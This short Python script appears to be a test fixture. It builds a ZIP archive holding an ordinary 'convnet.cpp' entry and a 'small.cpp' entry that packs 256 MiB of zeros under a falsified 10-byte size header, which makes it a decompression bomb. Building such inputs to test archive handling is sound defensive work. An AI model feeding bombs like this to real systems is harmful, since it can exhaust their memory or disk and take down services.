from archives import *


bomb = bytes(1 << 28)
raw_zip([{"name": b"convnet.cpp", "data": HONEST},
         {"name": b"small.cpp", "data": bomb, "packed": deflated(bomb), "method": 8, "size": 10}])
